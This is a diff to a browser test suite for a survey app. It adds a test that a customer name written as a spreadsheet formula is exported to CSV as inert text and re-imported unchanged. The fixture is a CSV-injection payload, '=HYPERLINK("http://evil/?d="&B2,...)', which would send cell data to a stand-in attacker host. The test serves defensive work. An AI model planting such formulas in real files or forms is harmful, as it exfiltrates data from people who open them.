@@ -2,11 +2,13 @@
 // on another port plays the attacker's origin and counts every request it gets;
 // a link naming its questionnaire must be refused before anything is fetched,
 // and the Content-Security-Policy in force (header and <meta>) must refuse
-// other origins and inline script.
+// other origins and inline script. A customer's call-back name written as a
+// spreadsheet formula reaches the branch's CSV as text, and back unchanged.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer } from 'node:http';
 import { readFileSync, readdirSync } from 'node:fs';
+import { openStaff } from './browser.mjs';
 import { HEADERS, META_POLICY, POLICY, headersFile } from '../../scripts/headers.mjs';
 import { launch, unlockStaff } from './browser.mjs';
 
@@ -137,5 +139,62 @@ test('the Content-Security-Policy is in force: header and <meta> agree, other or
   const loaded = framed ? await framed.evaluate(() => document.documentElement.dataset.ready ?? null).catch(() => null) : null;
   assert.equal(loaded, null, 'the survey does not run inside another site\'s frame');
   await new Promise((ok) => framer.close(ok));
+  await context.close();
+});
+
+test('a call-back name written as a formula is exported as text and imported back unchanged', async () => {
+  const BUILTIN = readFileSync(new URL('../../instruments/zg-x-branch-2023.json', import.meta.url), 'utf8');
+  const CALLBACK = BUILTIN.replace('"version": "1",', '"version": "1",\n  "callback": true,');
+  const EVIL = '=HYPERLINK("http://evil/?d="&B2,"click")';
+  const ROW = ['A', 'A', 'C', 'G', 'A', 'D', 'H', 'C', 'E', 'B', 'D', 'C', 'C', 'C', 'C', 'B', '3'];
+  const context = await env.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' });
+  await context.route('**/instruments/callback-instrument.json', (route) => route.fulfill({ contentType: 'application/json', body: CALLBACK }));
+  const page = await context.newPage();
+  await openStaff(page, env.url);
+  await page.goto(`${env.url}survey.html?instrument=instruments/callback-instrument.json`);
+  for (let n = 1; n <= 17; n++) {
+    await page.locator(`html[data-screen="q${n}"]`).waitFor();
+    await page.locator(`#screen .option[data-code="${ROW[n - 1]}"]`).click();
+  }
+  await page.locator('html[data-screen="contact"]').waitFor();
+  await page.locator('#name').fill(EVIL);
+  await page.locator('#phone').fill('+86 138 0013 8000');
+  await page.locator('#consent').check();
+  await page.locator('#next').click();
+  await page.locator('#submit').click();
+  await page.locator('html[data-screen="thanks"]').waitFor();
+  await page.goto(env.url);
+  await page.waitForFunction(() => document.querySelector('#store-status')?.dataset.total === '1');
+  await page.locator('#export-contacts').check();
+  const exportCsv = async (p) => {
+    const [dl] = await Promise.all([p.waitForEvent('download'), p.locator('[data-export="csv"]').click()]);
+    return readFileSync(await dl.path(), 'utf8');
+  };
+  const csv = await exportCsv(page);
+  const line = csv.split(/\r?\n/)[1];
+  // The name is text a spreadsheet shows, not a formula it runs; so is the phone starting with +.
+  assert.ok(line.includes(`"'=HYPERLINK(""http://evil/?d=""&B2,""click"")"`), line);
+  assert.ok(line.includes("'+86 138 0013 8000"), line);
+  assert.ok(!/(^|,)"?[=+@-]/.test(line.split(',').slice(1).join(',')), line);
+  // Another device imports the file and exports the same cells.
+  const other = await env.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' });
+  const second = await other.newPage();
+  await openStaff(second, env.url);
+  await second.waitForFunction(() => document.querySelector('#store-status')?.dataset.total !== undefined);
+  await second.locator('#import-file').setInputFiles({ name: 'branch.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+  await second.locator('#preview:not([hidden])').waitFor();
+  await second.locator('#commit').click();
+  await second.waitForFunction(() => document.querySelector('#store-status').dataset.total === '1');
+  await second.locator('#export-contacts').check();
+  const stored = await second.evaluate(async () => {
+    const s = await import('/storage.js');
+    const db = await s.openDb();
+    return (await s.done(db.transaction('responses').objectStore('responses').getAll())).length;
+  });
+  assert.equal(stored, 0, 'an import goes to the chunks, not the log');
+  // Exactly the same cells, with the import's own `source` column added.
+  const again = await exportCsv(second);
+  assert.equal(again.replace(',source,', ',').replace(',branch.csv,', ','), csv);
+  await other.close();
   await context.close();
 });
